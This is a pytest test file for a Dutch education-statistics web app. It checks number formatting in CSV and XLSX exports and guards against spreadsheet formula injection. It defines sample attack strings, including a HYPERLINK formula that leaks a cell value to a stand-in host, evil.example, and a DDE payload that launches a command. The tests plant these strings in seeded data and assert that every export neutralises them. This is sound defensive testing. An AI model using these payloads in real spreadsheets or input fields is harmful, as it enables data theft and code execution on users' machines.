"""CSV and XLSX exports carry the page's figures and markers; Dutch number formats."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from hub.indicators.cells import Count
from hub.web import exports
from hub.web.exports import AFGESCHERMD, Column, Table
from hub.web.blueprint import EXPORT_TYPES
from tests.hub.web.helpers import login
from tests.hub.web.seed import AGBS


def _table():
    return Table("t", "Test", (Column("naam", "School"), Column("n", "Aantal", "count"), Column("r", "Per 100", "rate"),
                               Column("p", "Dekking", "pct"), Column("e", "Kosten", "euro"), Column("d", "Verschil", "delta")),
                 (("A", 1234, 12.345, 87.4, 1032100.0, 2.44), ("B", AFGESCHERMD, AFGESCHERMD, None, AFGESCHERMD, -1.25)))


def test_dutch_formats():
    rows = _table().formatted()
    assert rows[0] == ["A", "1.234", "12,3", "87 %", "€ 1.032.100", "+2,4"]
    assert rows[1] == ["B", AFGESCHERMD, AFGESCHERMD, "–", AFGESCHERMD, "-1,2"]


def test_csv_matches_the_formatted_table():
    body = exports.to_csv([_table()])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["School", "Aantal", "Per 100", "Dekking", "Kosten", "Verschil"]
    assert rows[1:] == _table().formatted()


def test_xlsx_numbers_are_numbers_and_markers_text():
    wb = load_workbook(io.BytesIO(exports.to_xlsx([_table()])))
    ws = wb["Test"]
    assert [c.value for c in ws[2]] == ["A", 1234, 12.3, 87, 1032100, 2.4]
    assert [c.value for c in ws[3]] == ["B", AFGESCHERMD, AFGESCHERMD, "–", AFGESCHERMD, -1.2]


def test_count_cell_never_shows_a_hidden_value():
    assert exports.count_cell(Count(None, "suppressed")) == AFGESCHERMD
    assert exports.count_cell(Count(15, "published")) == 15


# --- formulas (OWASP "CSV injection"): no text ever reaches a spreadsheet as a formula ----------

#: Names as an attacker would upload them (consortium table) or as a reference file may carry them.
EVIL = {
    "school": '=HYPERLINK("http://evil.example/?leak="&B2,"Klik hier")',
    "gemeente": "=cmd|' /C calc'!A0",
    "bestuur": "@SUM(1+1)",
    "aanbieder": "+1+2",
    "consortium": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=2+2",
}
#: A Dutch number as the CSV writes it (a negative change, "+2,4", "87 %"): never neutralised.
DUTCH_NUMBER = re.compile(r"^[+-]?\d{1,3}(\.\d{3})*(,\d+)?( %)?$")
#: Export routes and the path arguments that reach a school with the planted names.
EXPORT_ARGS = {
    "web.overview_export": {},
    "web.factsheet_export": {"vestigingscode": "10AA00"},
    "web.swv_export": {"code": "PO2701"},
    "web.coverage_export": {},
    "web.publication_figures": {"release_id": 2},
    "web.compare_export": {"school": ["10AA00", "40DA00"]},
}


def test_neutralise_follows_owasp():
    for text in EVIL.values():
        out = exports.neutralise(text)
        assert out.startswith("'") and out[1:] == text
    assert exports.neutralise("-5") == "'-5"  # a text, even when it looks like a number
    assert exports.neutralise("De Linde") == "De Linde"
    assert exports.neutralise("'=al veilig") == "'=al veilig"
    assert exports.neutralise("\x00=1+1") == "'=1+1"  # a control character cannot hide the formula


def test_numbers_are_never_neutralised():
    table = Table("t", "T", (Column("naam", "Naam"), Column("d", "Verschil", "delta"), Column("n", "Aantal", "count")),
                  ((EVIL["aanbieder"], -1.25, -3),))
    csv_rows = list(csv.reader(io.StringIO(exports.to_csv([table]).decode("utf-8-sig")), delimiter=";"))
    assert csv_rows[1] == ["'+1+2", "-1,2", "-3"]
    ws = load_workbook(io.BytesIO(exports.to_xlsx([table])))["T"]
    assert [c.value for c in ws[2]] == ["'+1+2", -1.2, -3]
    assert [c.data_type for c in ws[2]] == ["s", "n", "n"]


@pytest.fixture
def planted(web):
    """The seeded region with formula-like names in the reference data and the consortium table, stored
    as an old upload or a reference import may have left them (the upload check is tested elsewhere)."""
    from hub.extensions import db
    from hub.models.consortia import Consortium, ConsortiumMember
    from hub.models.reference import Vestiging

    app, seeded = web
    with app.app_context():
        school = db.session.get(Vestiging, "10AA00")
        school.naam, school.gemeentenaam, school.bevoegd_gezag_naam = EVIL["school"], EVIL["gemeente"], EVIL["bestuur"]
        db.session.get(Vestiging, "10AB00").bevoegd_gezag_naam = EVIL["tab"]
        db.session.get(Vestiging, "10AC00").bevoegd_gezag_naam = EVIL["cr"]
        db.session.execute(db.delete(ConsortiumMember))  # the seed's table, replaced by the planted one
        lek, vaart = Consortium(naam=EVIL["consortium"]), Consortium(naam=EVIL["cr"])
        db.session.add_all([lek, vaart])
        db.session.flush()
        for i, agb in enumerate(AGBS):
            db.session.add(ConsortiumMember(consortium_id=(lek if i % 2 else vaart).id, aanbieder_agb=agb,
                                            aanbieder_naam=EVIL["aanbieder"] if i < 3 else EVIL["tab"]))
        db.session.commit()
    return app


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";") for cell in row]


def _xlsx_cells(body: bytes) -> list:
    wb = load_workbook(io.BytesIO(body))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("fmt", sorted(EXPORT_TYPES))
@pytest.mark.parametrize("endpoint", sorted(EXPORT_ARGS))
def test_export_neutralises_formulas(planted, seeded, endpoint, fmt):
    from flask import url_for

    # Every route with a <fmt> (CSV/XLSX) must be in EXPORT_ARGS, so each one gets this test.
    assert {r.endpoint for r in planted.url_map.iter_rules() if "fmt" in r.arguments} == set(EXPORT_ARGS)
    client = planted.test_client()
    login(client, *seeded.users["regio_admin"])
    with planted.test_request_context():
        url = url_for(endpoint, fmt=fmt, **EXPORT_ARGS[endpoint])
    resp = client.get(url)
    assert resp.status_code == 200, url
    assert resp.headers["Content-Type"] == EXPORT_TYPES[fmt], url  # one charset, not two
    if fmt == "csv":
        texts = _csv_cells(resp.data)
        dangerous = [t for t in texts if t.startswith(exports.FORMULA_STARTS) and not DUTCH_NUMBER.match(t)]
    else:
        cells = _xlsx_cells(resp.data)
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
        texts = [c.value for c in cells if isinstance(c.value, str)]
        dangerous = [t for t in texts if t.startswith(exports.FORMULA_STARTS)]
    assert dangerous == [], f"{url}: formula cells {dangerous}"
    shown = [t for t in texts if t.startswith("'") and t[1:] in EVIL.values()]
    assert shown, f"{url}: none of the planted names reached the export, so this test proves nothing"
